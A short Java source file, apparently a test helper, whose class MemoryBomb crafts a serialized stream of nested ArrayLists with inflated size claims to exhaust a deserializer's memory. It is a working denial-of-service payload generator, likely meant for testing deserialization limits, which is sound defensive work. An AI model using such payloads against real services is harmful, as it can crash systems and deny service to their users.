package dev.poolworks.wire;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.ObjectStreamClass;
import java.io.ObjectStreamConstants;
import java.util.ArrayList;

/**
 * Few bytes that claim much memory.
 */
public final class MemoryBomb {

	private MemoryBomb() {
	}

	/**
	 * Lists within each other, the innermost incomplete, so that all are there at once.
	 * @param depth how many
	 * @param claimed how many elements each says it has
	 * @return a serialized object
	 * @throws IOException never
	 */
	public static byte[] lists(int depth, int claimed) throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (DataOutputStream out = new DataOutputStream(bytes)) {
			out.writeShort(ObjectStreamConstants.STREAM_MAGIC);
			out.writeShort(ObjectStreamConstants.STREAM_VERSION);
			for (int i = 0; i < depth; i++) {
				out.writeByte(ObjectStreamConstants.TC_OBJECT);
				if (i == 0) {
					out.write(description());
				}
				else {
					out.writeByte(ObjectStreamConstants.TC_REFERENCE);
					out.writeInt(ObjectStreamConstants.baseWireHandle);
				}
				out.writeInt(claimed); // its field
				out.writeByte(ObjectStreamConstants.TC_BLOCKDATA);
				out.writeByte(4);
				out.writeInt(claimed);
			}
			out.write(new byte[64 * 1024]);
		}
		return bytes.toByteArray();
	}

	/** The bytes of the class of a list, out of a stream with nothing else. */
	private static byte[] description() throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
			out.writeObject(ObjectStreamClass.lookup(ArrayList.class));
		}
		byte[] all = bytes.toByteArray();
		return java.util.Arrays.copyOfRange(all, 4, all.length);
	}

}
